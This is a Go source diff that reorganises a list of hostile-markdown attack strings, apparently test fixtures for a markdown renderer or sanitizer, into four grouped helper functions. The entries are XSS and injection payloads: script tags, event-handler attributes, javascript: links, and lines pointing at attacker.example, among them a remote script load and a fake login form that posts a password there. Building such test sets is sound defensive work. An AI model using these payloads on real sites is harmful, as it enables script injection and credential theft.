@@ -1,6 +1,7 @@
 package demo
 
 import (
+	"slices"
 	"strings"
 	"time"
 )
@@ -25,9 +26,13 @@ func playHostileMarkdown(t *turn) error {
 }
 
 // Attacks lists the texts of the hostile-markdown scenario. Where one of them
-// takes effect, it sets window.pwned, calls alert, or asks for something of
-// attacker.example.
+// takes effect, it sets window.pwned, or asks for something of attacker.example.
 func Attacks() []string {
+	return slices.Concat(hostileTags(), hostileElements(), hostileLinks(), hostileText())
+}
+
+// hostileTags try to bring in scripts, styles and other pages.
+func hostileTags() []string {
 	return []string{
 		`<script>window.pwned=1</script>`,
 		`<SCRIPT SRC="https://attacker.example/x.js"></SCRIPT>`,
@@ -51,6 +56,12 @@ func Attacks() []string {
 		`<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
 		`<form action="https://attacker.example/" method="post"><input name="password"><button>Log in again</button></form>`,
 		`<input autofocus onfocus="window.pwned=1">`,
+	}
+}
+
+// hostileElements run something by themselves, or when they are touched.
+func hostileElements() []string {
+	return []string{
 		`<details open ontoggle="window.pwned=1"><summary>more</summary></details>`,
 		`<video><source onerror="window.pwned=1"></video>`,
 		`<audio src=x onerror=window.pwned=1>`,
@@ -61,6 +72,12 @@ func Attacks() []string {
 		`<template><script>window.pwned=1</script></template>`,
 		`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>`,
 		`<xss id=x tabindex=1 onfocus=window.pwned=1></xss>`,
+	}
+}
+
+// hostileLinks lead elsewhere than they say, or run something.
+func hostileLinks() []string {
+	return []string{
 		`[press](javascript:window.pwned=1)`,
 		`[press](JaVaScRiPt:window.pwned=1)`,
 		"[press](java\tscript:window.pwned=1)",
@@ -78,6 +95,12 @@ func Attacks() []string {
 		`![x](x"onerror="window.pwned=1)`,
 		`![x](data:image/svg+xml,<svg onload=window.pwned=1>)`,
 		"[ref]\n\n[ref]: javascript:window.pwned=1",
+	}
+}
+
+// hostileText breaks out of code, of comments, of the terminal and of every bound.
+func hostileText() []string {
+	return []string{
 		"```html\"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```",
 		"`</code><script>window.pwned=1</script>`",
 		"| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
